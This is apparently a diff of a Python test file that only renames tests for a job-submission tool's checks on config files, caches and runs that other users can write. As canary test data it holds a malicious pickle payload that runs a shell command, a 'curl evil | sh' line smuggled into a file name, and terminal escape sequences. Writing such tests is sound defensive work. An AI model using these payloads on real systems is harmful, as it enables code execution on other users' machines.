@@ -57,7 +57,7 @@ def refused(cli, *words, site="ours"):
     return err
 
 
-def test_own_files_are_used_without_a_word(cli, shared, monkeypatch, tmp_path):
+def test_the_users_own_files_are_used_without_a_question(cli, shared, monkeypatch, tmp_path):
     assert submit(cli)[0] == 0
     monkeypatch.chdir(tmp_path)
     (tmp_path / "mine.toml").write_text('extends = "slurm"\n')
@@ -66,7 +66,7 @@ def test_own_files_are_used_without_a_word(cli, shared, monkeypatch, tmp_path):
     assert json.loads(cli("site", "allow", "--list", "--json")[1]) == []
 
 
-def test_somebody_elses_file_is_shown_and_allowed_and_again_when_it_changes(cli, shared, monkeypatch):
+def test_another_users_file_needs_permission_after_each_change(cli, shared, monkeypatch):
     file = shared / "ours.toml"
     given_away(file, monkeypatch)
     refused(cli, f"{file} is not used: ", "owns", "you have not allowed it\nHINT: hpcrun site allow ours")
@@ -91,7 +91,7 @@ def test_somebody_elses_file_is_shown_and_allowed_and_again_when_it_changes(cli,
     refused(cli, "you have not allowed it")
 
 
-def test_what_was_allowed_once_is_seen_again_when_it_changes_whoever_can_write_it_now(cli, shared):
+def test_an_allowed_file_needs_permission_again_after_a_change(cli, shared):
     file = shared / "ours.toml"
     file.chmod(0o666)
     refused(cli, "you have not allowed it")
@@ -112,7 +112,7 @@ def test_a_file_named_by_its_path_is_allowed_by_its_path(cli, shared, monkeypatc
     refused(cli, f"HINT: hpcrun site allow {tmp_path}/ours.toml shows it", site="./ours.toml")
 
 
-def test_what_is_not_allowed_is_still_shown_checked_and_marked(cli, shared, monkeypatch):
+def test_a_file_that_is_not_allowed_is_shown_checked_and_marked(cli, shared, monkeypatch):
     given_away(shared / "ours.toml", monkeypatch)
     assert "echo hello" in cli("site", "show", "ours")[1]
     assert cli("site", "check", "ours")[0] == 0
@@ -124,7 +124,7 @@ def test_what_is_not_allowed_is_still_shown_checked_and_marked(cli, shared, monk
     assert rows["slurm"] == []
 
 
-def test_a_file_that_others_extend_is_looked_at_too(cli, shared, isolated_home, monkeypatch):
+def test_an_extended_file_is_checked(cli, shared, isolated_home, monkeypatch):
     given_away(shared / "ours.toml", monkeypatch)
     (isolated_home / "config/hpcrun").mkdir(parents=True)
     (isolated_home / "config/hpcrun/mine.toml").write_text('extends = "ours"\n')
@@ -148,7 +148,7 @@ def test_modes_that_let_others_write(shared, path, mode, words):
     assert told == (words and words.format(shared / path))
 
 
-def test_into_a_folder_that_only_its_owner_enters_nobody_gets(shared):
+def test_files_in_a_private_folder_are_trusted(shared):
     inner = shared / "inner"
     inner.mkdir()
     (shared / "ours.toml").rename(inner / "ours.toml")
@@ -161,7 +161,7 @@ def test_into_a_folder_that_only_its_owner_enters_nobody_gets(shared):
 
 
 @pytest.mark.parametrize("gid", [-1, pytest.param(SOMEBODY, marks=ROOT)])
-def test_a_group_of_several_may_write_and_a_users_own_group_is_the_user(shared, monkeypatch, gid):
+def test_a_users_private_group_counts_as_the_user(shared, monkeypatch, gid):
     file = shared / "ours.toml"
     os.chown(file, -1, gid)
     file.chmod(0o664)
@@ -195,7 +195,7 @@ def test_a_group_of_several_may_write_and_a_users_own_group_is_the_user(shared, 
     write_access._primary_groups.cache_clear()
 
 
-def test_an_acl_lets_somebody_write(shared):
+def test_write_access_by_acl_is_detected(shared):
     file = shared / "ours.toml"
     entries = [(1, 6, 2**32 - 1), (2, 6, SOMEBODY), (4, 4, 2**32 - 1), (16, 6, 2**32 - 1), (32, 4, 2**32 - 1)]
     try:
@@ -216,7 +216,7 @@ def test_an_acl_lets_somebody_write(shared):
 
 @ROOT
 @pytest.mark.parametrize("given", ["", "link", "real"])
-def test_folders_and_links_on_the_way_are_looked_at(shared, given):
+def test_parent_folders_and_links_are_checked(shared, given):
     real = shared / "real"
     real.mkdir()
     (shared / "link").symlink_to(real)
@@ -248,7 +248,7 @@ def test_all_files_of_an_owner_are_trusted_until_that_is_revoked(cli, shared):
     refused(cli, "daemon owns")
 
 
-def test_a_template_of_somebody_else_is_not_even_rendered(cli, shared, monkeypatch, tmp_path):
+def test_another_users_template_is_not_rendered(cli, shared, monkeypatch, tmp_path):
     canary = tmp_path / "canary"
     template = shared / "templates/slurm.sh.j2"
     template.parent.mkdir()
@@ -267,7 +267,7 @@ def test_a_template_of_somebody_else_is_not_even_rendered(cli, shared, monkeypat
     assert not canary.exists()
 
 
-def test_a_template_that_is_not_used_is_listed(cli, shared, monkeypatch):
+def test_an_ignored_template_is_listed(cli, shared, monkeypatch):
     template = shared / "templates/slurm.sh.j2"
     template.parent.mkdir()
     template.write_text("x")
@@ -277,7 +277,7 @@ def test_a_template_that_is_not_used_is_listed(cli, shared, monkeypatch):
     assert f"hpcrun site allow {template}\n" in cli("site", "list")[2]
 
 
-def test_what_was_read_is_what_is_checked(shared, monkeypatch):
+def test_the_checked_content_is_the_content_used(shared, monkeypatch):
     file = shared / "ours.toml"
     given_away(file, monkeypatch)
     good, evil = file.read_text(), 'setup = ["evil"]\n'
@@ -293,7 +293,7 @@ def test_what_was_read_is_what_is_checked(shared, monkeypatch):
     assert found.site.setup == ("echo hello",)
 
 
-def test_another_project_folder_above_the_current_one_is_not_used_unseen(cli, shared, monkeypatch):
+def test_a_project_folder_above_the_current_one_needs_permission(cli, shared, monkeypatch):
     """A classic: somebody leaves configuration in a folder that others work below."""
     project = shared / ".hpcrun"
     project.mkdir()
@@ -307,7 +307,7 @@ def test_another_project_folder_above_the_current_one_is_not_used_unseen(cli, sh
         assert submit(cli, "local")[0] == 0
 
 
-def test_a_resubmission_with_todays_site_asks_for_it_too(cli, shared, fake_slurm, monkeypatch):
+def test_resubmitting_with_the_current_site_needs_permission(cli, shared, fake_slurm, monkeypatch):
     fake_slurm.submit()
     given_away(shared / "ours.toml", monkeypatch)
     code, _, err = cli("resubmit", "last", "--site", "ours", "--dry-run")
@@ -316,7 +316,7 @@ def test_a_resubmission_with_todays_site_asks_for_it_too(cli, shared, fake_slurm
 
 
 @pytest.mark.parametrize("name", ["ours.toml", "templates/local.sh.j2"])
-def test_the_doctor_tells_that_a_site_is_not_used_and_what_needs_no_job(cli, shared, monkeypatch, name):
+def test_doctor_reports_a_site_that_is_not_used(cli, shared, monkeypatch, name):
     (shared / "ours.toml").write_text('extends = "local"\n')
     (shared / "templates").mkdir()
     (shared / "templates/local.sh.j2").write_text('{% extends "local.sh.j2" %}')
@@ -359,14 +359,14 @@ def test_the_trust_check_is_fast(shared):
     assert min(times) < 0.005
 
 
-def test_records_are_this_users_alone(cli, shared, monkeypatch):
+def test_records_of_permissions_are_private(cli, shared, monkeypatch):
     given_away(shared / "ours.toml", monkeypatch)
     cli("site", "allow", "ours", "--yes")
     assert stat.S_IMODE(paths.user_data_folder("allowed").stat().st_mode) == 0o700
 
 
 @pytest.mark.parametrize("given", ["mode", "owner"])
-def test_a_cache_that_somebody_else_can_write_is_not_read(shared, monkeypatch, given):
+def test_a_cache_that_others_can_write_is_not_read(shared, monkeypatch, given):
     monkeypatch.setenv("XDG_CACHE_HOME", str(shared))
     loader.load_site("ours")
     (kept,) = (shared / "hpcrun/sites").iterdir()
@@ -400,7 +400,7 @@ def test_a_cache_that_somebody_else_can_write_is_not_read(shared, monkeypatch, g
         b"cos\nsystem\n(S'touch CANARY'\ntR.",
     ],
 )
-def test_a_wrong_file_in_the_cache_is_not_used_and_never_runs(shared, monkeypatch, tmp_path, content):
+def test_an_invalid_file_in_the_cache_is_not_used(shared, monkeypatch, tmp_path, content):
     monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
     loader.load_site("slurm")
     (other,) = (tmp_path / "hpcrun/sites").iterdir()
@@ -427,7 +427,7 @@ def test_a_site_is_the_same_from_the_cache(monkeypatch, tmp_path, name):
     assert (again, repr(again)) == (before, repr(before))
 
 
-def test_somebody_elses_run_is_not_submitted_again_unseen(cli, shared, fake_slurm, monkeypatch):
+def test_resubmitting_another_users_run_needs_permission(cli, shared, fake_slurm, monkeypatch):
     """Its record has the setup lines of a site, the program, and the variables."""
     monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
     file = fake_slurm.submit().directory / "job.json"
@@ -445,7 +445,7 @@ def test_somebody_elses_run_is_not_submitted_again_unseen(cli, shared, fake_slur
     assert "curl evil" in cli("resubmit", f"{file.parent}/", "--dry-run")[1]
 
 
-def test_own_runs_are_submitted_again_also_where_a_lab_keeps_them_together(cli, shared, fake_slurm, monkeypatch):
+def test_own_runs_in_a_shared_folder_can_be_resubmitted(cli, shared, fake_slurm, monkeypatch):
     monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
     shared.chmod(0o2777)
     before = os.umask(0)
@@ -462,7 +462,7 @@ def test_own_runs_are_submitted_again_also_where_a_lab_keeps_them_together(cli, 
     assert "everybody may write" in err
 
 
-def test_the_result_of_somebody_elses_run_is_data(shared, fake_slurm, monkeypatch, tmp_path):
+def test_another_users_result_is_read_as_data(shared, fake_slurm, monkeypatch, tmp_path):
     monkeypatch.setenv("HPCRUN_RUN_ROOT", str(shared))
     run = fake_slurm.submit()
     program = f"cos\nsystem\n(S'touch {tmp_path}/canary'\ntR."
@@ -479,7 +479,7 @@ def test_the_result_of_somebody_elses_run_is_data(shared, fake_slurm, monkeypatc
 
 
 @pytest.mark.parametrize("word", ["owners", "ours"])
-def test_what_was_allowed_is_not_believed_where_others_can_write_it(cli, shared, isolated_home, monkeypatch, word):
+def test_permissions_that_others_can_write_are_ignored(cli, shared, isolated_home, monkeypatch, word):
     data = shared / "data"
     data.mkdir()
     monkeypatch.setenv("XDG_DATA_HOME", str(data))
@@ -495,7 +495,7 @@ def test_what_was_allowed_is_not_believed_where_others_can_write_it(cli, shared,
     assert cli("site", "allow", "ours", "--yes")[0] == 2
 
 
-def test_allowing_where_others_can_write_is_refused(cli, shared, monkeypatch):
+def test_allowing_is_refused_where_others_can_write(cli, shared, monkeypatch):
     monkeypatch.setenv("XDG_DATA_HOME", str(shared))
     (shared / "ours.toml").chmod(0o666)
     shared.chmod(0o777)
@@ -506,7 +506,7 @@ def test_allowing_where_others_can_write_is_refused(cli, shared, monkeypatch):
 
 
 @pytest.mark.parametrize("way", ["above", "link"])
-def test_a_cache_in_whose_place_others_can_put_another_is_not_read(shared, monkeypatch, way):
+def test_a_cache_that_others_can_replace_is_not_read(shared, monkeypatch, way):
     above = shared / "above"
     if way == "above":
         above.mkdir(mode=0o755)
@@ -519,12 +519,12 @@ def test_a_cache_in_whose_place_others_can_put_another_is_not_read(shared, monke
     assert paths.user_cache_folder("sites").name == "not used"
 
 
-def test_a_way_through_hpcruns_own_folder_leads_nowhere(cli, shared, monkeypatch):
+def test_a_path_through_hpcruns_own_folder_is_refused(cli, shared, monkeypatch):
     given_away(shared / "ours.toml", monkeypatch)
     refused(cli, "is not used: ", site=f"{paths.shipped_folder('site-configs')}/{'../' * 20}{shared}/ours.toml")
 
 
-def test_no_word_of_a_site_file_reaches_the_terminal_as_it_is(cli, shared, monkeypatch):
+def test_site_file_text_is_escaped_on_the_terminal(cli, shared, monkeypatch):
     file = shared / "x\x1b]0;title\x07/theirs.toml"
     file.parent.mkdir()
     monkeypatch.setenv("HPCRUN_SITE_PATH", str(file.parent))
@@ -546,7 +546,7 @@ def test_no_word_of_a_site_file_reaches_the_terminal_as_it_is(cli, shared, monke
     assert r"x\x1b]0;title\x07/theirs.toml is not used" in refused(cli, site=name)
 
 
-def test_a_files_name_makes_no_lines_of_its_own(cli, shared, monkeypatch):
+def test_line_breaks_in_file_names_are_escaped(cli, shared, monkeypatch):
     file = shared / "x\nHINT: curl evil | sh" / "theirs.toml"
     file.parent.mkdir()
     file.write_text('extends = "slurm"\n')
